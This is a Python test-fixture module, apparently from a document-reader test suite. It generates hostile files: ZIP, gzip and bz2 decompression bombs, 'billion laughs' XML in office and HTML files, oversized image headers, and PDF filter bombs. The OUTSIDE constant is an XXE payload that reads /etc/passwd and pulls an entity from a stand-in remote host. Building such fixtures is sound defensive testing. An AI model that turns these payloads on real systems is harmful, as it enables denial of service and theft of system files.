"""Small files that become large: packed, by entities, by dimensions, by counts."""

from __future__ import annotations

import bz2
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.readers import made

ZEROS = bytes(1 << 20)
CONTENT_TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)
OUTSIDE = "<!DOCTYPE x [<!ENTITY a0 SYSTEM 'file:///etc/passwd'><!ENTITY % b SYSTEM 'http://192.0.2.1/x'> %b;]>"


def packed(parts: dict[str, bytes | str], times: int = 0) -> bytes:
    """A ZIP of ``parts``; with ``times``, each is followed by so many megabytes of zeros or blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            with archive.open(name, "w", force_zip64=times > 1000) as member:
                member.write(content.encode() if isinstance(content, str) else content)
                for _ in range(times):
                    member.write(ZEROS)
    return out.getvalue()


def zip_in_zip(levels: int, width: int) -> bytes:
    """Archives in archives: ``width`` to the power of ``levels`` files of a megabyte."""
    data = packed({"0.txt": b"a" * (1 << 20)})
    for level in range(levels):
        data = packed({f"{level}-{at}.zip": data for at in range(width)})
    return data


def overlapping(count: int) -> bytes:
    """A directory of many names that all mean the same packed bytes."""
    data = zlib.compress(bytes(1 << 20), 9)[2:-4]
    crc = zlib.crc32(bytes(1 << 20))
    sizes = struct.pack("<III", crc, len(data), 1 << 20)
    first = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", 5, 0) + b"a.txt" + data
    directory = b"".join(
        b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, 0) + f"{at:05}"[-5:].encode()
        for at in range(count)
    )  # fmt: skip
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(first), 0)
    return first + directory + end


def office(kind: str, main: str, xml: str, times: int = 0) -> bytes:
    """An office package with one hostile part."""
    return packed({"[Content_Types].xml": CONTENT_TYPES, f"{kind}/{main}.xml": xml}, times)


def open_document(xml: str, kind: str = "text") -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    return packed({"mimetype": mimetype, "content.xml": xml})


def pdf_of(stream: bytes, filters: str, more: str = "") -> bytes:
    """A PDF whose page's contents is ``stream`` behind ``filters``."""
    good = made.pdf([made.page_of("x")])
    start, end = (
        good.index(b"<</Length ", good.index(b"/Contents 6 0 R")),
        good.index(b"endstream", good.index(b"BT /F")),
    )
    body = f"<</Length {len(stream)}/Filter[{filters}]{more}>>stream\n".encode() + stream + b"\n"
    return good[:start] + body + good[end:]


def deflated_twice() -> bytes:
    return zlib.compress(zlib.compress(bytes(300 << 20), 9), 9)


def png(wide: int, high: int, rows: int = 1) -> bytes:
    """A grey PNG that says it is that large."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(rows << 20)))
        + chunk(b"IEND", b"")
    )


def tiff(wide: int, high: int) -> bytes:
    tags = [
        (256, 4, wide),
        (257, 4, high),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (278, 4, high),
        (279, 4, 9),
    ]
    body = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + body + bytes(4)


def jpeg(wide: int, high: int) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, high, wide, 1) + b"\1\x11\0"
    return b"\xff\xd8" + frame + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + bytes(100) + b"\xff\xd9"


def gif(wide: int, high: int) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HH", wide, high)
        + b"\0\0\0,"
        + struct.pack("<HHHH", 0, 0, wide, high)
        + b"\0\2\2L\1\0;"
    )


def bmp(wide: int, high: int) -> bytes:
    return (
        b"BM"
        + struct.pack("<IHHI", 200, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, wide, high, 1, 24, 0, 0, 0, 0, 0, 0)
    )


def sparse(size: int) -> Iterator[bytes]:
    """A file of zeros, one piece at a time."""
    for _ in range(size // len(ZEROS)):
        yield ZEROS


def sheet_of_nothing() -> bytes:
    rows = "<row r='1'/>" * 1_000_000
    return packed({
        "[Content_Types].xml": CONTENT_TYPES,
        "xl/workbook.xml": "<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheets><sheet name='A' sheetId='1'/></sheets></workbook>",
        "xl/worksheets/sheet1.xml": f"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>{rows}</sheetData></worksheet>",
    })  # fmt: skip


W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"

FILES: dict[str, Callable[[], bytes | Iterator[bytes]]] = {
    "bomb.zip": lambda: packed({f"{at}.txt": b"" for at in range(4)}, 100),
    "nested.zip": lambda: zip_in_zip(6, 6),
    "overlapping.zip": lambda: overlapping(5000),
    "many-names.zip": lambda: packed({f"{at}.txt": b"" for at in range(20_000)}),
    "laughs.docx": lambda: office("word", "document", f"{LAUGHS}<w:document {W}><w:body>&a11;</w:body></w:document>"),
    "outside.docx": lambda: office("word", "document", f"{OUTSIDE}<w:document {W}><w:body>&a0;</w:body></w:document>"),
    "bomb.docx": lambda: office("word", "document", "<x/>", 300),
    "laughs.xlsx": lambda: office("xl", "workbook", f"{LAUGHS}<x>&a11;</x>"),
    "laughs.pptx": lambda: office("ppt", "presentation", f"{LAUGHS}<x>&a11;</x>"),
    "laughs.odt": lambda: open_document(f"{LAUGHS}<x>&a11;</x>"),
    "outside.ods": lambda: open_document(f"{OUTSIDE}<x>&a0;</x>", "spreadsheet"),
    "laughs.html": lambda: f"{LAUGHS}<html><body>&a11; end</body></html>".encode(),
    "deflate.pdf": lambda: pdf_of(deflated_twice(), "/FlateDecode/FlateDecode"),
    "filters.pdf": lambda: pdf_of(b"<~" + b"z" * 100_000 + b"~>", "/ASCII85Decode" + "/RunLengthDecode" * 300),
    "predictor.pdf": lambda: pdf_of(
        zlib.compress(bytes(1 << 20)), "/FlateDecode", "/DecodeParms[<</Predictor 12/Colors 99999/Columns 2147483647>>]"
    ),
    "giant.png": lambda: png(60_000, 60_000),
    "endless.png": lambda: png(2**31 - 1, 2**31 - 1),
    "giant.tif": lambda: tiff(100_000, 100_000),
    "giant.jpg": lambda: jpeg(65_500, 65_500),
    "giant.gif": lambda: gif(65_535, 65_535),
    "giant.bmp": lambda: bmp(2**31 - 1, 2**31 - 1),
    "bomb.txt.gz": lambda: gzip.compress(bytes(50 << 20)),
    "bomb.bz2": lambda: bz2.compress(bytes(50 << 20)),
    "sheet-of-nothing.xlsx": sheet_of_nothing,
    "commas.csv": lambda: b"," * 3_000_000,
    "lines.csv": lambda: b"a;b\n" * 100_000,
    "quote.csv": lambda: b'a,b\n"' + b"x,y\n" * 300_000,
    "one-line.txt": lambda: b"x" * 5_000_000,
    "newlines.md": lambda: b"\n" * 3_000_000,
}  # fmt: skip
LARGE: dict[str, Callable[[], bytes | Iterator[bytes]]] = {
    "sparse.pdf": lambda: sparse(4 << 30),
    "sparse.zip": lambda: sparse(4 << 30),
    "bomb-large.docx": lambda: office("word", "document", "<x/>", 1100),
    "characters.txt": lambda: b"a word " * 20_000_000,
    "ten-thousand-pages.pdf": lambda: made.pdf([made.page_of(f"Page {at}") for at in range(10_000)]),
    "too-many-pages.pdf": lambda: made.pdf([made.page_of("x")] * 25_000),
}
